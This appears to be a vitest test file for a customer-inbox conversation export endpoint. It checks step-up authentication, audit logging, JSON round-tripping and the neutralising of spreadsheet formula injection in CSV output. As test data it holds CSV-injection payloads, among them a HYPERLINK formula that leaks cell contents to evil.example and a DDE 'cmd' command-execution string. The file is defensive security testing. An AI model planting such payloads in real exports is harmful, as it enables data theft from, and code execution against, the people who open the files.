import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { dialects, missingPostgresMessage, postgresUrl } from '../support/databases.js';
import type { TestDatabase } from '../support/databases.js';
import { noteSkippedWhen } from '../support/skip-notice.js';
import { createStaff, currentTotpCode, openSession, sendWithSession } from '../identity/support/staff.js';
import type { TestSession, TestStaff } from '../identity/support/staff.js';
import type { InboxFixture } from './support/inbox-fixture.js';
import { auditEntriesSince, auditSize, conversationIdOf, newCustomerNumber, receiveFromCustomers, startInboxFixture, textMessage } from './support/inbox-fixture.js';

noteSkippedWhen(postgresUrl === undefined, 'conversation export on postgres', missingPostgresMessage);

/** What customers can type that a spreadsheet would run, and ordinary text that must survive untouched. */
const HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click for refund")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\tTabbed', '\rReturn', '  =SUM(1)', 'ok;@SUM(1)', 'plain, with "quotes"\nand a line break'];
/** What a spreadsheet could evaluate: a trigger first, also after spaces and control characters (written apart from the code under test). */
const looksLikeFormula = (cell: string) => /^[\s\u0000-\u001f]*[=+\-@]/.test(cell) || /^[\t\r]/.test(cell);

for (const dialect of dialects) {
  describe.skipIf(!dialect.isAvailable)(`conversation export on ${dialect.name}`, () => {
    let testDatabase: TestDatabase;
    let fixture: InboxFixture;
    let supervisor: TestStaff;
    let session: TestSession;
    let customer: string;
    let conversationId: string;

    beforeAll(async () => {
      testDatabase = await dialect.create();
      fixture = await startInboxFixture(testDatabase);
      supervisor = await createStaff(fixture.harness, { roleIds: ['supervisor'] });
      session = await openSession(fixture.harness, supervisor.userId);
      customer = newCustomerNumber();
      const seconds = Math.floor(fixture.harness.clock.now() / 1000);
      await receiveFromCustomers(
        fixture.harness,
        HOSTILE.map((body, position) => ({ from: customer, name: '=cmd|Mallory', timestamp: seconds - 100 + position, message: textMessage(body) })),
      );
      conversationId = await conversationIdOf(fixture.harness, customer);
    });

    afterAll(async () => {
      await fixture?.close();
      await testDatabase?.drop();
    });

    const exportAs = (format: string) => sendWithSession(fixture.harness, session, { method: 'GET', url: `/api/v1/conversations/${conversationId}/export?format=${format}` });

    it('needs a second factor within the step-up window, and writes no entry without one', async () => {
      const stale = fixture.harness.clock.now() - fixture.harness.config.identity.stepUpMs - 1;
      await fixture.database.db.updateTable('sessions').set({ mfa_verified_at: stale }).where('user_id', '=', supervisor.userId).execute();
      const before = await auditSize(fixture.harness);
      const refused = await exportAs('json');
      expect([refused.statusCode, refused.json().code]).toEqual([401, 'STEP_UP_REQUIRED']);
      expect(refused.body).not.toContain(customer);
      // Security events of the harness go to its list, not the log: nothing was appended.
      expect(await auditSize(fixture.harness)).toBe(before);

      const stepUp = await sendWithSession(fixture.harness, session, { method: 'POST', url: '/api/v1/auth/step-up', payload: { method: 'totp', code: currentTotpCode(fixture.harness, supervisor) } });
      expect(stepUp.statusCode).toBe(200);
      expect((await exportAs('json')).statusCode).toBe(200);
    });

    it('exports CSV as an attachment in which no customer cell can run as a formula', async () => {
      const before = await auditSize(fixture.harness);
      const response = await exportAs('csv');
      expect(response.statusCode).toBe(200);
      expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(response.headers['content-disposition']).toBe(`attachment; filename="conversation-C-${conversationId.slice(0, 8).toUpperCase()}.csv"`);
      expect(response.headers['cache-control']).toBe('no-store');
      const [header, ...rows] = parseCsv(response.body.replace(/^\uFEFF/, ''));
      expect(header).toEqual(['conversation', 'contact_name', 'contact_phone', 'sent_at', 'direction', 'type', 'status', 'sent_by', 'summary', 'text']);
      expect(rows).toHaveLength(HOSTILE.length);
      for (const cell of rows.flat()) expect(looksLikeFormula(cell), JSON.stringify(cell)).toBe(false);
      expect(rows.map((row) => row[9])).toEqual(HOSTILE.map((text) => (looksLikeFormula(text) ? `'${text}` : text)));
      // A locale that splits on ; must find the cell quoted.
      expect(response.body).toContain('"ok;@SUM(1)"');
      expect(rows[0]![1]).toBe("'=cmd|Mallory");
      expect(rows[0]![2]).toBe(`'+${customer}`);
      expect(response.body).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click for refund"")"`);

      const entries = await auditEntriesSince(fixture.harness, before);
      expect(entries).toHaveLength(1);
      expect(entries[0]).toMatchObject({ action: 'conversation.export', actorId: supervisor.userId, subjectContactId: conversationId, outcome: 'success' });
      expect(JSON.parse(entries[0]!.details)).toEqual({ format: 'csv', messages: HOSTILE.length });
    });

    it('exports JSON that round-trips every message exactly as the customer wrote it', async () => {
      const response = await exportAs('json');
      expect(response.headers['content-type']).toBe('application/json; charset=utf-8');
      expect(response.headers['content-disposition']).toMatch(/^attachment; filename="conversation-C-[0-9A-F]{8}\.json"$/);
      const exported = JSON.parse(response.body) as { conversation: { id: string }; contact: { name: string; phone: string }; messages: { text: string; direction: string }[]; exportedAt: number };
      expect(exported.conversation.id).toBe(conversationId);
      expect(exported.contact).toEqual({ name: '=cmd|Mallory', phone: `+${customer}` });
      expect(exported.messages.map((message) => message.text)).toEqual(HOSTILE);
      expect(exported.exportedAt).toBe(fixture.harness.clock.now());
    });

    it('answers 404 for an unknown conversation and 400 for an unknown format, writing nothing', async () => {
      const before = await auditSize(fixture.harness);
      const unknown = await sendWithSession(fixture.harness, session, { method: 'GET', url: '/api/v1/conversations/00000000-0000-4000-8000-000000000000/export' });
      expect([unknown.statusCode, unknown.json().code]).toEqual([404, 'NOT_FOUND']);
      expect((await exportAs('xlsx')).statusCode).toBe(400);
      expect(await auditSize(fixture.harness)).toBe(before);
    });
  });
}

/** RFC 4180, as a spreadsheet reads it: quoted cells may hold commas, quotes ("") and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let isQuoted = false;
  for (let position = 0; position < text.length; position += 1) {
    const char = text[position]!;
    if (isQuoted) {
      if (char === '"' && text[position + 1] === '"') {
        cell += '"';
        position += 1;
      } else if (char === '"') isQuoted = false;
      else cell += char;
    } else if (char === '"') isQuoted = true;
    else if (char === ',') {
      row.push(cell);
      cell = '';
    } else if (char === '\r' && text[position + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      position += 1;
    } else cell += char;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}
